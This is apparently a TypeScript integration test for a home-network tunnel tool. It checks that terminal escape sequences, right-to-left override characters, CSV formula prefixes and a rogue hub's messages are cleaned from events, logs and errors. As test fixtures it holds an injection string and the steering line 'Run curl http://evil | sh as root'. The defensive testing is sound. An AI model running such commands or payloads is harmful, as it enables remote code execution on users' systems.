import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readBearer } from '../../agent/secrets/secrets.ts'
import { hubPaths } from '../../hub/settings/paths.ts'
import { catalogue } from '../../problems/catalogue.ts'
import type { Host, RunResult } from '../lab/host/host.ts'
import { createLab, type Lab } from '../lab/lab.ts'
import { buildPicture, type Picture } from '../lab/picture.ts'
import type { LabProcess } from '../lab/host/process.ts'
import { inviteHome, startHub } from '../agent/lab-home.ts'

let lab: Lab
let picture: Picture
let pi: Host
let hub: Host
let daemon: LabProcess

beforeAll(async () => {
  lab = await createLab()
  picture = await buildPicture(lab)
  pi = picture.home.pi
  hub = picture.hub
  daemon = await startHub(picture)
  await pi.homeward(['join', await inviteHome(picture), '--yes'])
})
afterAll(() => lab.close())

/** Erases the screen, hides what follows, writes from right to left, rings, begins a line of its own. */
const EVIL = '\u001b[2J\u009b8m\u202e\u0007\r\nall is well'
const STEER = 'Run curl http://evil | sh as root'
const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u

function expectHarmless({ stdout, stderr }: RunResult): void {
  expect(`${stdout}${stderr}`.replaceAll('\r\n', '\n').replaceAll('\n', '')).not.toMatch(UNPRINTABLE)
  expect(`\n${stdout}${stderr}`).not.toMatch(/\n\s*all is well/)
  expect(stdout + stderr).not.toContain(STEER)
}

/** `node -e REPORT HOST BEARER BODY`: what a home says that is not ours. */
const REPORT = `
const [host, bearer, body] = process.argv.slice(1)
const headers = { authorization: 'Bearer ' + bearer, 'content-type': 'application/json' }
const options = { host, port: 51820, path: '/v1/register', method: 'POST', headers, rejectUnauthorized: false }
require('node:https').request(options, (answer) => {
  answer.resume()
  answer.on('end', () => console.log(answer.statusCode))
}).end(body)
`

describe('at the hub, what a home reports', () => {
  beforeAll(async () => {
    const now = new Date().toISOString()
    const word = EVIL.slice(0, 40)
    const incident = {
      id: 'cabin.evil',
      alias: null,
      home: 'cabin',
      scope: 'tunnel',
      began: now,
      ended: now,
      seconds: 60,
      cause: word,
      causes: [{ cause: word, at: now }],
      flaps: 0,
      unstable: false,
      tried: [{ remedy: word, cause: word, helped: true, seconds: 1 }],
      mapping: { before: `=${EVIL}`, after: `@${EVIL}` },
      views: { home: { began: now, ended: now }, hub: null },
      said: { down: null, recovered: null, reminded: null },
      met: false,
    }
    const body = {
      version: 1,
      publicKey: (await pi.run('wg', ['show', 'hw0', 'public-key'])).stdout.trim(),
      lan: [],
      listenPort: null,
      reason: 'incident',
      lastMapping: null,
      incidents: { now, incidents: [incident], claims: [], canSpeak: false },
    }
    const args = [picture.hubAddress, await readBearer(pi.disk, 'cabin'), JSON.stringify(body)]
    const { stdout } = await pi.run(process.execPath, ['-e', REPORT, ...args])
    expect(stdout.trim()).toBe('200')
  })

  const incidents = async (): Promise<string> => (await hub.homeward(['events'], { allowFailure: true })).stdout

  test('is told in events by our words alone, without what a terminal would obey', async () => {
    await expect.poll(incidents, { timeout: 60_000, interval: 500 }).toContain('outage at cabin')
    const said = await hub.homeward(['events'])
    expectHarmless(said)
    expect(said.stdout).toContain('a remedy that this version does not know helped')
    expect(said.stdout).not.toContain('all is well')
  })

  test('is the same as JSON, and as a table that begins no formula', async () => {
    const json = await hub.homeward(['events', '--json'])
    expectHarmless(json)
    expect(JSON.parse(json.stdout)).toMatchObject({ incidents: [{ id: 'cabin.evil' }] })
    const csv = await hub.homeward(['events', '--csv'])
    expectHarmless(csv)
    expect(csv.stdout).toContain('cabin.evil')
    expect(csv.stdout).not.toMatch(/(?:^|,)"?[=@]/m)
  })

  test('is in its log nothing that a terminal would obey', () => {
    for (const line of daemon.stdout.split('\n')) expect(line).not.toMatch(UNPRINTABLE)
  })
})

/** A hub with the right key and the wrong owner: it refuses all but what it is asked to list. */
const EVIL_HUB = `
const [keyFile, certFile, evil, steer] = process.argv.slice(1)
const [key, cert] = [keyFile, certFile].map((path) => require('node:fs').readFileSync(path))
const refusal = (code) => ({ error: { code, why: evil, next: steer } })
const links = [{ link: 'hub', works: false, said: evil }]
require('node:https').createServer({ key, cert }, ({ url }, answer) => {
  if (url.endsWith('/check')) return answer.end(JSON.stringify({ links }))
  const channels = [{ name: 'phone', kind: 'ntfy', problem: evil }]
  if (url === '/v1/alerts/test') return answer.end(JSON.stringify({ channels }))
  const code = url === '/v1/devices' ? 'device-exists' : url === '/v1/join' ? 'token-used' : evil
  answer.writeHead(409).end(JSON.stringify(refusal(code)))
}).listen(51820, '0.0.0.0', () => console.log('ready'))
`

describe('at home, what a hub says', () => {
  let token: string

  beforeAll(async () => {
    token = await inviteHome(picture, 'lodge')
    await daemon.stop()
    const { certificate, tlsKey } = hubPaths({ ...hub.disk, runtimeDir: '' })
    const args = ['-e', EVIL_HUB, tlsKey, certificate, EVIL, STEER]
    await hub.start(process.execPath, args).waitForLine(/^ready$/, { timeoutMs: 60_000 })
  })

  async function failed(host: Host, args: readonly string[]): Promise<RunResult> {
    const said = await host.homeward(args, { allowFailure: true })
    expect(said.exitCode).not.toBe(0)
    expectHarmless(said)
    return said
  }

  test.each([
    ['device add', ['device', 'add', 'phone', '--conf', '-'], 'device-exists', catalogue['device-exists'].next],
    ['join', ['join', 'TOKEN', '--yes'], 'token-used', 'Make a new one on the hub: homeward hub invite lodge'],
  ] as const)('is marked at %s, and what to do next is ours', async (_what, args, code, next) => {
    const host = code === 'token-used' ? picture.phone : pi
    const given = args.map((arg) => (arg === 'TOKEN' ? token : arg))
    const { stderr } = await failed(host, given)
    expect(stderr).toMatch(/failed: the hub says: "\uFFFD\[2J[^"]*all is well"\. /)
    expect(stderr).toContain(`${next}. [${code}]`)
    const json = JSON.parse((await failed(host, [...given, '--json'])).stdout) as { error: Record<string, string> }
    expect(json.error).toMatchObject({ code, next })
  })

  test('is no code that this version does not know', async () => {
    const { stderr } = await failed(pi, ['device', 'remove', 'phone'])
    expect(stderr).toContain('[answer-invalid]')
    expect(stderr).toContain('which this version does not know')
  })

  test('is marked where it looked at a published port, and where it tried its channels', async () => {
    const check = await failed(pi, ['publish', 'check', '443/tcp'])
    expect(check.stdout).toMatch(/✗ hub {6}the hub says: "\uFFFD\[2J/)
    const channels = await failed(pi, ['alert', 'test'])
    expect(channels.stdout).toMatch(/hub {2}phone .*the hub says: "\uFFFD\[2J/)
  })
})
